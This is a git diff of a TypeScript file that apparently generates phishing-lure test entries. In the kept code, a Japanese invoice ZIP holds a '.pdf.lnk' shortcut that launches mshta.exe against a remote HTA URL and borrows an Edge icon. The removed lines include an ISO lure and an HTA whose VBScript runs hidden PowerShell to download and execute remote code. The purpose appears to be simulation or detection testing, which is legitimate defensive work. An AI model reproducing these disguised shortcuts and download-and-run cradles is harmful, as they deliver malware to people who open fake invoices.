@@ -2,12 +2,9 @@ import type { Entry } from '../entry.js';
 import { htmlRoute, redirectRoute } from '../entry.js';
 import { cfb, fileRoute, iso, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
 import { baseCss, doc } from '../parts/g-kit.js';
-
-const isoBytes = iso('RECHNUNG_2025_11', ['Rechnung_RE-2025-11-0847.pdf.lnk', 'data.dll']);
 const jpZipB64 = zip([
   { name: '請求書_2025年11月分.pdf.lnk', data: lnk('C:\\Windows\\System32\\mshta.exe', 'https://seikyu-docs-cloud.com/v.hta', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe,11') },
 ]).toString('base64');
-const htaText = `<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize" SHOWINTASKBAR="no"><script language="VBScript">Set s=CreateObject("WScript.Shell"):s.Run "powershell -w hidden -nop -c ""iex(iwr 'https://docs-impots-avis.fr-portail.com/p.txt' -useb)""",0:self.close</script></head></html>`;
 export const entries: Entry[] = [
   // Japanese invoice page: ZIP with LNK assembled in the browser (HTML smuggling)
   {
